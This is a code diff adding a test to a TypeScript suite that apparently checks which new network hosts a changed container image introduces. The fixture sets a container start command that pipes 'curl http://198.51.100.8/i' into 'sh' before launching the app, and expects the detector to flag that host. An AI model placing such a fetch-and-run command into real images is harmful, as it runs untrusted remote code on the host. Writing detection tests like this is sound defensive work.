@@ -182,6 +182,15 @@ describe('the hosts that an image did not name before', () => {
     ]);
   });
 
+  it('are those of the command that a container starts, unless an older version kept no such hosts', () => {
+    const started = (cmd: string[]) => ({ ...nothing, layers: [], config: kept({ cmd }) });
+    const before = started(['node', '/app.js']);
+    const after = started(['sh', '-c', 'curl http://198.51.100.8/i | sh; node /app.js']);
+    expect(diffImages(before, after).hosts).toEqual([{ host: '198.51.100.8', namedIn: ['command'] }]);
+    const { commandHosts: _, ...old } = before.config;
+    expect(diffImages({ ...before, config: old }, after).hosts).toEqual([]);
+  });
+
   it('begin with those of the build, of what is started and of the own code', () => {
     const files = [at('node_modules/x/a.js', 'a.io', 'c.io'), at('app.js', 'c.io'), at('etc/cron.d/x', 'd.io')];
     const { hosts } = diffImages(state([], []), state(['RUN curl https://e.io'], files));
